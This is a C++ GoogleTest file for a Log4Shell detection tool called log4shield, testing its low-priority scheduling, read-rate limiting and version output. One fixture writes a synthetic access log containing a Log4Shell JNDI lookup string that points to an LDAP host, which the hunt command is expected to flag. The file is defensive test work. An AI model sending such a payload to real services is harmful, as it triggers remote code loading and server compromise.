// --low-priority and --max-read-rate on the real binary, and --version.
// The priority is read from outside, from /proc and ioprio_get, while a hunt
// on a pipe waits for input: what the kernel says, not what we meant to set.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "shell.h"

namespace {

namespace stdfs = std::filesystem;
using l4s::test::run_shell;
using l4s::test::shell_quote;

// Field 19 of /proc/PID/task/TID/stat, after the parenthesised command name.
int nice_of(const std::string& stat_path) {
  std::ifstream in(stat_path);
  std::string s((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  size_t close = s.rfind(')');
  if (close == std::string::npos) return -100;
  std::istringstream fields(s.substr(close + 2));
  std::string f;
  for (int i = 3; i <= 19 && fields >> f; ++i)
    if (i == 19) return std::stoi(f);
  return -100;
}

int io_class_of(pid_t tid) {
  long v = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, tid);
  return v < 0 ? -1 : static_cast<int>(v >> 13);
}

std::vector<pid_t> threads_of(pid_t pid) {
  std::vector<pid_t> out;
  DIR* d = opendir(("/proc/" + std::to_string(pid) + "/task").c_str());
  if (!d) return out;
  while (dirent* e = readdir(d))
    if (e->d_name[0] != '.') out.push_back(std::atoi(e->d_name));
  closedir(d);
  return out;
}

// A hunt reading a pipe this test holds open, so it waits while we look.
struct WaitingHunt {
  pid_t pid = -1;
  int stdin_write = -1;

  explicit WaitingHunt(const std::vector<std::string>& extra) {
    int p[2];
    if (pipe2(p, O_CLOEXEC) != 0) return;
    pid = fork();
    if (pid == 0) {
      dup2(p[0], 0);
      int devnull = open("/dev/null", O_WRONLY);
      dup2(devnull, 1);
      std::vector<std::string> args = {L4S_BINARY, "hunt", "--format", "jsonl", "-"};
      args.insert(args.end(), extra.begin(), extra.end());
      std::vector<char*> argv;
      for (auto& a : args) argv.push_back(a.data());
      argv.push_back(nullptr);
      execv(L4S_BINARY, argv.data());
      _exit(127);
    }
    close(p[0]);
    stdin_write = p[1];
  }

  // Exit code after stdin is closed.
  int finish() {
    if (stdin_write >= 0) close(stdin_write);
    stdin_write = -1;
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  }
  ~WaitingHunt() {
    if (stdin_write >= 0) {
      kill(pid, SIGKILL);
      finish();
    }
  }
};

// Polls until `pred` holds (the child needs a moment to parse its flags);
// the assertion is on the state, never on how long it took.
template <typename Pred>
bool eventually(Pred pred) {
  for (int i = 0; i < 1000; ++i) {
    if (pred()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  return pred();
}

TEST(Production, LowPrioritySetsNice19AndIdleIoOnEveryThread) {
  WaitingHunt hunt({"--low-priority", "--threads", "2"});
  ASSERT_GT(hunt.pid, 0);
  // Once it reads (its threads started), every thread must reach both; one
  // that never does fails the wait.
  ASSERT_EQ(write(hunt.stdin_write, "plain line\n", 11), 11);
  std::string lagging;
  const bool all = eventually([&] {
    lagging.clear();
    for (pid_t tid : threads_of(hunt.pid)) {
      const int nice = nice_of("/proc/" + std::to_string(hunt.pid) + "/task/" + std::to_string(tid) + "/stat");
      if (nice != 19 || io_class_of(tid) != 3)
        lagging += " thread " + std::to_string(tid) + ": nice " + std::to_string(nice) + ", I/O class " +
                   std::to_string(io_class_of(tid)) + ";";
    }
    return lagging.empty() && !threads_of(hunt.pid).empty();
  });
  EXPECT_TRUE(all) << "want nice 19 and IOPRIO_CLASS_IDLE (3):" << lagging;
  EXPECT_EQ(hunt.finish(), 0);
}

TEST(Production, WithoutTheFlagPriorityIsInherited) {
  WaitingHunt hunt({});
  ASSERT_GT(hunt.pid, 0);
  const std::string stat = "/proc/" + std::to_string(hunt.pid) + "/stat";
  const int ours = nice_of("/proc/self/stat");
  ASSERT_TRUE(eventually([&] { return threads_of(hunt.pid).size() >= 1 && nice_of(stat) != -100; }));
  EXPECT_EQ(nice_of(stat), ours);
  EXPECT_NE(io_class_of(hunt.pid), 3);
  EXPECT_EQ(hunt.finish(), 0);
}

class ProductionFiles : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = stdfs::path(L4S_TEST_TMP) / "production_e2e";
    stdfs::remove_all(dir_);
    stdfs::create_directories(dir_ / "logs");
    std::ofstream log(dir_ / "logs" / "access.log");
    for (int i = 0; i < 20000; ++i)
      log << "10.0.0." << i % 250 << " - - [10/Dec/2021:12:34:56 +0100] \"GET /index.html?i=" << i
          << " HTTP/1.1\" 200 512\n";
    log << "203.0.113.9 - - [10/Dec/2021:12:35:00 +0100] \"GET /${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\" 200 1\n";
  }
  stdfs::path dir_;
};

TEST_F(ProductionFiles, MaxReadRateKeepsTheResults) {
  const std::string logs = shell_quote((dir_ / "logs").string());
  const std::string cut = " | grep -v '\"summary\"' | sed 's/\"seconds\":[0-9.e-]*//'";
  auto free_run = run_shell(std::string(L4S_BINARY) + " hunt -f jsonl " + logs + cut);
  auto capped = run_shell(std::string(L4S_BINARY) + " hunt -f jsonl --max-read-rate 64 --low-priority " + logs + cut);
  EXPECT_NE(free_run.out.find("198.51.100.7"), std::string::npos);
  EXPECT_EQ(capped.out, free_run.out);
  auto scan = run_shell(std::string(L4S_BINARY) + " scan -q -f json --max-read-rate 64 --low-priority " + logs);
  EXPECT_EQ(scan.exit_code, 0) << scan.out;
}

TEST(Production, MaxReadRateMustBePositive) {
  for (const char* cmd : {"scan", "hunt", "fix"}) {
    auto r = run_shell(std::string(L4S_BINARY) + " " + cmd + " --max-read-rate 0 /nonexistent 2>&1");
    EXPECT_EQ(r.exit_code, 64) << cmd << ": " << r.out;
    r = run_shell(std::string(L4S_BINARY) + " " + cmd + " --help");
    EXPECT_NE(r.out.find("--max-read-rate"), std::string::npos) << cmd;
    EXPECT_NE(r.out.find("--low-priority"), std::string::npos) << cmd;
  }
}

TEST(Production, VersionNamesEveryBundledLibrary) {
  auto r = run_shell(std::string(L4S_BINARY) + " --version");
  ASSERT_EQ(r.exit_code, 0);
  std::string version;
  std::ifstream(std::string(L4S_SOURCE_DIR) + "/VERSION") >> version;
  EXPECT_EQ(r.out.rfind("log4shield " + version + "\n", 0), 0u) << r.out;
  EXPECT_TRUE(std::regex_search(r.out, std::regex(R"(\ncommit: +\S+\n)"))) << r.out;
  EXPECT_TRUE(std::regex_search(r.out, std::regex(R"(\nbuilt: +\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\n)"))) << r.out;
  EXPECT_TRUE(std::regex_search(r.out, std::regex(R"(\ncompiler: +\S+)"))) << r.out;
  for (const char* lib : {"zlib", "libdeflate", "isa-l", "zstd", "liblzma", "bzip2", "libarchive", "OpenSSL", "SQLite",
                          "libpq", "libcurl", "libpcap", "Boost", "fmt", "nlohmann-json", "CLI11"})
    EXPECT_TRUE(std::regex_search(r.out, std::regex(std::string("\n  ") + lib + R"( +\d+\.\d+(\.\d+)*\b)"))) << lib;
}

TEST(Production, VersionAsJson) {
  auto r = run_shell(std::string(L4S_BINARY) + " --version --format json");
  ASSERT_EQ(r.exit_code, 0) << r.out;
  for (const char* key : {"\"name\": \"log4shield\"", "\"commit\"", "\"build_date\"", "\"compiler\"",
                          "\"name\": \"OpenSSL\"", "\"name\": \"libpq\"", "\"source\": \"runtime\"",
                          "\"source\": \"headers\""})
    EXPECT_NE(r.out.find(key), std::string::npos) << key << "\n" << r.out;
  EXPECT_TRUE(std::regex_search(r.out, std::regex(R"("name": "zstd",\s*"version": "\d+\.\d+\.\d+")"))) << r.out;
  EXPECT_EQ(run_shell(std::string(L4S_BINARY) + " --version --format yaml 2>/dev/null").exit_code, 64);
}

}  // namespace
